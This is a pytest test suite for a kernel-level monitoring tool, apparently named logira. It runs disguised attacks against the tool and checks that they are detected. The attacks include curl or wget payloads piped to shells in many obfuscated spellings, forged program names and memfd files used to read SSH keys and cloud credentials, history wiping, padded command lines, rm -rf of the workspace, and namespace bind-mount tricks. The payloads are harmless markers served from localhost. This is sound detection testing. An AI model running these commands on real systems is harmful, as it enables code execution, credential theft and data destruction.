"""Disguised execution against a REAL logirad: download-and-run in many spellings from a local
HTTP server, forged argv[0] and memfd names, padded command lines, namespace tricks. Every
attack really runs (its payload leaves a marker) and must be flagged from what the kernel saw."""

from __future__ import annotations

import base64
import http.server
import os
import shutil
import textwrap
import threading
from collections.abc import Iterator

import pytest
from e2e_support import StoredRun

pytestmark = pytest.mark.bpf


@pytest.fixture(scope="module")
def http_payloads() -> Iterator[str]:
    """127.0.0.1:<port> serving /sh (a shell payload), /b64, /hex (encoded), /py (python)."""
    sh = b"echo pwned > \"$MARK\"\n"
    bodies = {
        "/sh": sh,
        "/b64": base64.b64encode(sh) + b"\n",
        "/hex": sh.hex().encode() + b"\n",
        "/line": b"echo pwned > \"$MARK\"\n",
        "/py": b"import os\nopen(os.environ['MARK'], 'w').write('pwned')\n",
    }

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = bodies.get(self.path.split("?")[0], b"")
            self.send_response(200 if body else 404)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a: object) -> None:
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield f"http://127.0.0.1:{srv.server_address[1]}"
    srv.shutdown()
    srv.server_close()


def _run(logira, script: str) -> StoredRun:
    res = logira("run", "--tool", "evasion", "--", "/bin/bash", "-c", f"export MARK=$PWD/marker\n{script}")
    assert res.returncode == 0, res.stderr
    return logira.only_run()


def _dets(run: StoredRun) -> dict[str, list[dict]]:
    out: dict[str, list[dict]] = {}
    for d in run.of_type("detection"):
        out.setdefault(d["data_json"]["rule_id"], []).append(d["data_json"])
    return out


DOWNLOAD_AND_RUN = {
    "group-braces": "{ curl -s URL/sh; } | sh",
    "group-subshell": "( curl -s URL/sh ) | bash",
    "variable-command": "c=curl; $c -s URL/sh | sh",
    "dollar-shell": "S=/bin/sh; export SHELL=$S; curl -s URL/sh | $SHELL",
    "xargs-sh-c": "curl -s URL/line | xargs -0 sh -c",
    "process-substitution": "bash <(curl -s URL/sh)",
    "process-substitution-fd": "bash 3< <(wget -q -O- URL/sh) /dev/fd/3",
    "base64-decoder": "curl -s URL/b64 | base64 -d | sh",
    "openssl-decoder": "curl -s URL/b64 | openssl base64 -d | sh",
    "xxd-decoder": "curl -s URL/hex | xxd -r -p | bash",
    "tee-between": "curl -s URL/sh | tee /dev/null | bash -s",
}


@pytest.mark.parametrize("name", list(DOWNLOAD_AND_RUN))
def test_download_piped_to_a_shell_in_any_spelling(logira, http_payloads, name):
    run = _run(logira, DOWNLOAD_AND_RUN[name].replace("URL", http_payloads))
    assert (logira.workspace / "marker").read_text().strip() == "pwned"  # the attack really ran
    dets = _dets(run)
    fed = dets.get("exec-network-fed-interpreter", [])
    assert fed, sorted(dets)
    by_seq = {r["seq"]: r for r in run.records}
    # the evidence: the producer's network record and the consumer's exec
    assert {"net", "exec"} <= {by_seq[s]["type"] for s in fed[0]["steps"]}, fed[0]
    # the producer named in the message is the process that reached the server
    assert any(w in fed[0]["message"] for w in ("curl", "wget")), fed[0]["message"]


def test_interpreter_fetching_and_exec_ing_code(logira, http_payloads):
    code = f"import urllib.request as u; exec(u.urlopen('{http_payloads}/py').read())"
    run = _run(logira, f"/usr/bin/python3 -c \"{code}\"")
    assert (logira.workspace / "marker").read_text() == "pwned"
    dets = _dets(run)
    assert "exec-inline-fetch-and-exec" in dets and "exec-interpreter-inline-fetch" in dets, sorted(dets)


@pytest.mark.parametrize(
    "script",
    [
        "curl -s -o x.sh URL/sh && sh x.sh",
        "wget -q -O run.py URL/py; /usr/bin/python3 run.py",
        "curl -s -o f URL/sh; sed -i '1i #!/bin/sh' f; chmod +x f; ./f",
        "curl -s -o y.sh URL/sh; sh < y.sh",
        "curl -s -o z URL/sh; sed -i '1i #!/bin/sh' z; chmod +x z; ln z /tmp/lgz-$$; /tmp/lgz-$$; rm -f /tmp/lgz-$$",
    ],
    ids=["sh-operand", "python-operand", "shebang-image", "stdin-file", "hard-link-elsewhere"],
)
def test_download_to_a_file_then_run_it(logira, http_payloads, script):
    run = _run(logira, script.replace("URL", http_payloads))
    assert (logira.workspace / "marker").read_text().strip() == "pwned"
    dets = _dets(run)
    assert "exec-downloaded-file-run" in dets, sorted(dets)


def test_data_from_the_network_into_non_interpreters_is_not_flagged(logira, http_payloads):
    run = _run(logira, f"curl -s {http_payloads}/sh | wc -l > count; curl -s -o x.txt {http_payloads}/sh; cat x.txt >/dev/null")
    dets = _dets(run)
    assert not {"exec-network-fed-interpreter", "exec-downloaded-file-run"} & set(dets), sorted(dets)


@pytest.fixture
def ssh_key(test_user) -> Iterator[str]:
    ssh = test_user.home / ".ssh"
    had = ssh.exists()
    ssh.mkdir(mode=0o700, exist_ok=True)
    key = ssh / "id_rsa"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    hist = test_user.home / ".bash_history"
    hist.write_text("ls\n")
    for p in (ssh, key, hist):
        os.chown(p, test_user.uid, test_user.gid)
    yield str(key)
    key.unlink(missing_ok=True)
    hist.unlink(missing_ok=True)
    if not had:
        shutil.rmtree(ssh, ignore_errors=True)


def test_forged_program_names_get_no_exception(logira, ssh_key, test_user):
    script = textwrap.dedent(f"""
        (exec -a ssh cat {ssh_key} > /dev/null)
        (exec -a aws cat ~/.aws/credentials > /dev/null)
        (exec -a bash rm ~/.bash_history)
        /usr/bin/python3 - > /dev/null <<'EOF'
        import os
        fd = os.memfd_create("/usr/bin/ssh", 0)
        os.write(fd, open("/usr/bin/cat", "rb").read())
        os.execve(fd, ["ssh", {ssh_key!r}], {{}})
        EOF
        mkdir -p ~/bin-x && cp /usr/bin/cat ~/bin-x/ssh && ~/bin-x/ssh {ssh_key} > /dev/null
    """)
    aws = test_user.home / ".aws"
    aws.mkdir(exist_ok=True)
    (aws / "credentials").write_text("[default]\naws_access_key_id = AKIAFAKE\n")
    for p in (aws, aws / "credentials"):
        os.chown(p, test_user.uid, test_user.gid)
    try:
        run = _run(logira, script)
    finally:
        shutil.rmtree(test_user.home / "bin-x", ignore_errors=True)
        shutil.rmtree(aws, ignore_errors=True)
    dets = _dets(run)
    assert "cred-cloud-read" in dets, sorted(dets)
    reads = dets.get("cred-ssh-private-read", [])
    # cat named ssh, a memfd named /usr/bin/ssh, a user-owned copy named ssh: three reads, none excepted
    assert len(reads) >= 3, [d["message"] for d in reads]
    assert "evasion-history-wipe" in dets, sorted(dets)
    fileless = dets.get("exec-fileless", [])
    assert fileless and "memfd:/usr/bin/ssh" in fileless[0]["message"]


def test_the_real_ssh_tools_keep_their_exception(logira, ssh_key):
    run = _run(logira, f"ssh-keygen -y -P '' -f {ssh_key} > /dev/null 2>&1; true")
    assert "cred-ssh-private-read" not in _dets(run)


def test_padding_does_not_hide_a_pipe_to_sh_or_an_rm_of_the_workspace(logira, http_payloads):
    pad = "A" * 12000
    inner = f": '{pad}'; curl -s {http_payloads}/sh | sh"
    pads = " ".join(f"/nonexistent/pad-{i:05d}" for i in range(600))
    script = f"bash -c \"{inner}\"\nrm -rf {pads} \"$PWD\""
    run = _run(logira, script)
    dets = _dets(run)
    assert "exec-download-pipe-shell" in dets, sorted(dets)  # the text rule sees the tail
    assert "exec-network-fed-interpreter" in dets, sorted(dets)
    assert "exec-rm-recursive-critical" in dets, sorted(dets)
    cut = dets.get("exec-argv-truncated", [])
    assert {m["message"].split(")")[0] for m in cut} >= {"command line cut (bash", "command line cut (rm"}
    assert not logira.workspace.exists()


def test_bind_mount_in_a_user_namespace_is_recorded_and_flagged(logira, ssh_key):
    run = _run(logira, "mkdir -p alias && unshare -Urm sh -c 'mount --bind ~/.ssh alias && cat alias/id_rsa >/dev/null'")
    dets = _dets(run)
    assert "ns-new-namespace" in dets and "fs-mount-change" in dets, sorted(dets)
    mounts = [r for r in run.of_type("proc") if r["data_json"]["op"] == "mount"]
    assert any(m["data_json"]["source"] == os.path.dirname(ssh_key) and m["data_json"]["target"].endswith("/alias")
               for m in mounts), mounts  # fmt: skip
